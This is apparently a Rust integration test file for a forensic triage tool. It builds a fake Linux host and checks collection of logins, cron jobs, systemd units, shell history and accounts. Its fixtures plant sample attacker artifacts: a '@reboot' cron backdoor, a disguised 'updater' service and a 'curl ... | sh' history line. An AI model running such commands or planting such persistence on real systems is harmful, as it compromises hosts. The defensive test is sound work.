//! End-to-end collection scenarios against simulated hosts.
//!
//! Every source path points into a temporary directory and external commands
//! are answered by a canned runner, so these run the same on any machine.

use std::collections::HashMap;
use std::fs;
use std::path::Path;
use std::sync::Arc;

use anyhow::Result;
use chrono::NaiveDateTime;
use tempfile::TempDir;

use rust_triage::collectors::command::{CommandOutput, CommandRunner};
use rust_triage::collectors::platforms::Platform;
use rust_triage::collectors::{collect, collect_and_store, collect_kinds};
use rust_triage::config::{TriageConfig, WatchedFile};
use rust_triage::context::CollectionContext;
use rust_triage::error::TriageError;
use rust_triage::export::{JsonSink, RecordSink};
use rust_triage::models::{ArtifactKind, ArtifactRecord, LoginOutcome};
use rust_triage::store::Store;

/// Answers by program name; anything else is missing from PATH
#[derive(Default)]
struct CannedRunner {
    outputs: HashMap<&'static str, &'static str>,
}

impl CannedRunner {
    fn with(mut self, program: &'static str, stdout: &'static str) -> Self {
        self.outputs.insert(program, stdout);
        self
    }
}

impl CommandRunner for CannedRunner {
    fn run(&self, program: &str, _args: &[&str]) -> rust_triage::error::Result<CommandOutput> {
        self.outputs
            .get(program)
            .map(|stdout| CommandOutput::ok(*stdout))
            .ok_or_else(|| TriageError::NotFound(format!("command `{}`", program)))
    }
}

const AUTH_LOG: &str = "\
Oct 14 09:15:07 web01 sshd[2214]: Failed password for root from 198.51.100.4 port 40222 ssh2
Oct 14 09:15:07 web01 sshd[2214]: Failed password for root from 198.51.100.4 port 40222 ssh2
Oct 14 09:16:30 web01 sshd[2230]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.10  user=deploy
Oct 14 09:20:44 web01 sshd[2301]: Accepted publickey for alice from 192.0.2.55 port 51000 ssh2: ED25519 SHA256:abc
";

const PASSWD: &str = "\
root:x:0:0:root:/root:/bin/bash
alice:x:1000:1000:Alice Analyst,,,:/home/alice:/bin/zsh
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
";

fn now() -> NaiveDateTime {
    NaiveDateTime::parse_from_str("2024-10-14 12:00:00", "%Y-%m-%d %H:%M:%S").unwrap()
}

fn path_in(dir: &Path, name: &str) -> String {
    dir.join(name).to_string_lossy().to_string()
}

/// Simulated Linux host rooted at `dir`
fn linux_host(dir: &Path, runner: CannedRunner) -> Result<CollectionContext> {
    fs::write(dir.join("auth.log"), AUTH_LOG)?;
    fs::write(dir.join("passwd"), PASSWD)?;
    fs::write(dir.join("crontab"), "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n")?;
    fs::create_dir(dir.join("cron.d"))?;
    fs::write(dir.join("cron.d").join("backdoor"), "@reboot root /tmp/.x/agent\n")?;
    fs::create_dir(dir.join("system"))?;
    fs::write(
        dir.join("system").join("updater.service"),
        "[Unit]\nDescription=Totally legit updater\n[Service]\nExecStart=/tmp/.x/agent\n",
    )?;
    fs::write(dir.join(".bash_history"), "id\ncurl http://203.0.113.9/x | sh\n")?;

    let mut config = TriageConfig::default();
    let linux = &mut config.sources.linux;
    linux.auth_logs = vec![path_in(dir, "auth.log")];
    linux.journal_fallback = false;
    linux.apt_history = path_in(dir, "history.log");
    linux.dnf_history = path_in(dir, "dnf.rpm.log");
    linux.passwd = path_in(dir, "passwd");
    linux.crontabs = vec![path_in(dir, "crontab")];
    linux.cron_dirs = vec![path_in(dir, "cron.d")];
    linux.autostart_dirs = vec![path_in(dir, "autostart")];
    linux.systemd_unit_dirs = vec![path_in(dir, "system")];
    config.sensitive_files = Some(vec![
        WatchedFile::new(&path_in(dir, "passwd"), "User accounts"),
        WatchedFile::new(&path_in(dir, "shadow"), "Password hashes"),
    ]);

    Ok(CollectionContext::new(config)
        .with_platform(Platform::Linux)
        .with_runner(Arc::new(runner))
        .with_identity("alice", dir, "/bin/bash")
        .with_now(now()))
}

#[test]
fn test_unsupported_platform_yields_empty_batches() -> Result<()> {
    let dir = TempDir::new()?;
    let ctx = CollectionContext::new(TriageConfig::default())
        .with_platform(Platform::Unsupported)
        .with_runner(Arc::new(CannedRunner::default()))
        .with_identity("alice", dir.path(), "/bin/sh");

    for (kind, records) in collect_kinds(&ArtifactKind::ALL, &ctx) {
        assert!(records.is_empty(), "{} returned records", kind);
    }
    Ok(())
}

#[test]
fn test_linux_login_collection() -> Result<()> {
    let dir = TempDir::new()?;
    let ctx = linux_host(dir.path(), CannedRunner::default())?;

    let failures = collect(ArtifactKind::LoginFailed, &ctx);
    assert_eq!(failures.len(), 2);
    for record in &failures {
        match record {
            ArtifactRecord::Login(event) => assert_eq!(event.outcome, LoginOutcome::Failure),
            other => panic!("unexpected record {:?}", other),
        }
    }
    assert!(failures.iter().any(|r| matches!(r, ArtifactRecord::Login(e) if e.username == "deploy")));

    let successes = collect(ArtifactKind::LoginSuccess, &ctx);
    assert_eq!(successes.len(), 1);
    assert!(matches!(&successes[0], ArtifactRecord::Login(e) if e.username == "alice"));
    Ok(())
}

#[test]
fn test_linux_persistence_and_history() -> Result<()> {
    let dir = TempDir::new()?;
    let runner = CannedRunner::default().with("crontab", "*/5 * * * * /home/alice/.cache/sync\n");
    let ctx = linux_host(dir.path(), runner)?;

    let cron = collect(ArtifactKind::ScheduledTask, &ctx);
    let lines: Vec<&str> = cron
        .iter()
        .filter_map(|r| match r {
            ArtifactRecord::Cron(entry) => Some(entry.line.as_str()),
            _ => None,
        })
        .collect();
    assert!(lines.contains(&"*/5 * * * * /home/alice/.cache/sync"));
    assert!(lines.contains(&"@reboot root /tmp/.x/agent"));
    assert!(!lines.iter().any(|line| line.starts_with("SHELL=")));

    let startup = collect(ArtifactKind::Startup, &ctx);
    assert_eq!(startup.len(), 1);
    match &startup[0] {
        ArtifactRecord::Startup(item) => {
            assert_eq!(item.name, "updater.service");
            assert_eq!(item.description, "Totally legit updater");
        }
        other => panic!("unexpected record {:?}", other),
    }

    let history = collect(ArtifactKind::ShellHistory, &ctx);
    assert_eq!(history.len(), 2);
    assert!(history
        .iter()
        .all(|r| matches!(r, ArtifactRecord::Shell(c) if c.shell == "bash" && c.user == "alice")));
    Ok(())
}

#[test]
fn test_linux_accounts_and_watched_files() -> Result<()> {
    let dir = TempDir::new()?;
    let ctx = linux_host(dir.path(), CannedRunner::default())?;

    let users = collect(ArtifactKind::UserAccount, &ctx);
    assert_eq!(users.len(), 3);
    assert!(users
        .iter()
        .any(|r| matches!(r, ArtifactRecord::User(u) if u.username == "alice" && u.full_name == "Alice Analyst")));

    let files = collect(ArtifactKind::FileMonitor, &ctx);
    assert_eq!(files.len(), 2);
    match (&files[0], &files[1]) {
        (ArtifactRecord::File(passwd), ArtifactRecord::File(shadow)) => {
            assert!(passwd.exists);
            assert_eq!(passwd.size, PASSWD.len() as u64);
            assert!(!shadow.exists);
            assert_eq!(shadow.description, "Password hashes");
        }
        other => panic!("unexpected records {:?}", other),
    }
    Ok(())
}

#[test]
fn test_missing_sources_are_tracked_not_fatal() -> Result<()> {
    let dir = TempDir::new()?;
    let ctx = linux_host(dir.path(), CannedRunner::default())?;

    // neither apt nor dnf history exists
    assert!(collect(ArtifactKind::Patch, &ctx).is_empty());
    assert!(ctx.tracker.failure_count() >= 2);
    Ok(())
}

#[test]
fn test_collect_store_and_export() -> Result<()> {
    let dir = TempDir::new()?;
    let store = Arc::new(Store::open(&dir.path().join("db").join("triage.db"))?);
    let ctx = linux_host(dir.path(), CannedRunner::default())?.with_store(store.clone());

    let kinds = [ArtifactKind::LoginFailed, ArtifactKind::ScheduledTask, ArtifactKind::UserAccount];
    let batches = collect_and_store(&kinds, &ctx)?;
    assert_eq!(batches.iter().map(|(kind, _)| *kind).collect::<Vec<_>>(), kinds.to_vec());

    assert_eq!(store.load_login_events(LoginOutcome::Failure)?.len(), 2);
    assert!(store.load_login_events(LoginOutcome::Success)?.is_empty());
    assert_eq!(store.load_user_accounts()?.len(), 3);
    assert_eq!(store.load_cron_entries()?.len(), 2);

    let out = dir.path().join("records.json");
    let mut sink = JsonSink::create(&out)?;
    for (kind, records) in &batches {
        sink.write_records(*kind, records)?;
    }
    sink.finish()?;
    drop(sink);

    let text = fs::read_to_string(&out)?;
    let values: Vec<serde_json::Value> = serde_json::Deserializer::from_str(&text)
        .into_iter()
        .collect::<std::result::Result<_, _>>()?;
    assert_eq!(values.len(), 3);
    assert_eq!(values[0]["kind"], "login-failed");
    assert_eq!(values[0]["count"], 2);
    Ok(())
}
